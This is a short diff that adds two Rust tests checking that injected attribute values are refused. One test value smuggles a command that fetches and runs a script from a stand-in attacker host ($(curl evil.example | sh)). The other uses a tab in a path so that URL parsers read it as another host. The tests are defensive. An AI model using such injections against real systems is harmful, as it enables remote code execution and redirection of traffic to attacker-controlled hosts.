@@ -70,3 +70,19 @@ async fn a_token_provider_named_by_attribute_is_refused_and_never_called() {
     )
     .await;
 }
+
+#[tokio::test]
+async fn an_origin_app_that_would_reach_a_shell_is_refused() {
+    refused(
+        r#"origin-app='x" $(curl evil.example | sh) "'"#,
+        "",
+        "origin-app=",
+    )
+    .await;
+}
+
+#[tokio::test]
+async fn a_path_that_the_url_parser_reads_as_another_host_is_refused() {
+    // A tab inside the path: every browser's parser drops it, leaving //evil.example/api.
+    refused("api-base=\"/\t/evil.example/api\"", "", "api-base=").await;
+}
